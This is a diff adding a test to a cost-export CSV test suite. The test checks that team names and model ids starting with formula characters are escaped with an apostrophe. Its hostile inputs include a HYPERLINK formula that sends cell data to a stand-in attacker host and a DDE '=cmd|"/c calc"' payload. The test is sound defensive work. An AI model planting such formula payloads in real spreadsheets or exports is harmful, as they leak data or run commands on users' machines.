@@ -132,6 +132,41 @@ describe('the FOCUS cost export', () => {
     expect(chunks.every((chunk) => chunk.endsWith('\r\n'))).toBe(true);
   });
 
+  it('guards hostile team names and model ids, keeps figures as numbers, and tags the cost center', () => {
+    const hostileTeams = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '@SUM(1+1)*cmd|x', '+1', '-1', '\tTabbed', '\rReturned'];
+    const hostileDirectory = testDirectory(
+      hostileTeams.map((_, index) => ({ userId: `u${index}`, teamId: `team-${index}` })),
+      hostileTeams.map((name, index) => ({ id: `team-${index}`, name, leads: [], costCenter: `CC-${index}` })),
+    );
+    const models = ['=cmd|"/c calc"!A1', '@SUM(A1)', '+model', '-model', '\tmodel', '\rmodel'];
+    const rows = hostileTeams.map((_, index) => usageRow({ day: '2026-10-02', userId: `u${index}`, model: models[index]!, tokens: tokens({ input: 1000 }) }));
+    const priceBook = testPriceBook();
+    const lines = buildMonthlyLines('2026-10', rows, hostileDirectory, priceBook);
+    const month: CostExportMonth = {
+      month: '2026-10',
+      timeZone: 'UTC',
+      window: monthWindow('2026-10', 'UTC'),
+      currency: 'USD',
+      lines,
+      priceBook,
+      teamNames: new Map([...hostileDirectory.teams.values()].map((team) => [team.id, team.name])),
+      teamCostCenters: new Map([...hostileDirectory.teams.values()].map((team) => [team.id, team.costCenter!])),
+    };
+    const text = buildFocusCsv(month);
+    const [, ...records] = parseCsv(text);
+    expect(records).toHaveLength(hostileTeams.length);
+    for (const cells of records) {
+      for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+    const { records: named } = read(month);
+    expect(named.map((record) => record['SubAccountName']).sort()).toEqual(hostileTeams.map((name) => `'${name}`).sort());
+    expect(named.map((record) => record['ResourceId']).sort()).toEqual(models.map((model) => `'${model}`).sort());
+    for (const record of named) {
+      const tags = JSON.parse(record['Tags']!);
+      expect(tags.costCenter).toBe(`CC-${record['SubAccountId']!.slice('team-'.length)}`);
+    }
+  });
+
   it('gives the same bytes for the same month', () => {
     const { month } = exportMonth();
     expect(buildFocusCsv(month)).toBe(buildFocusCsv(month));
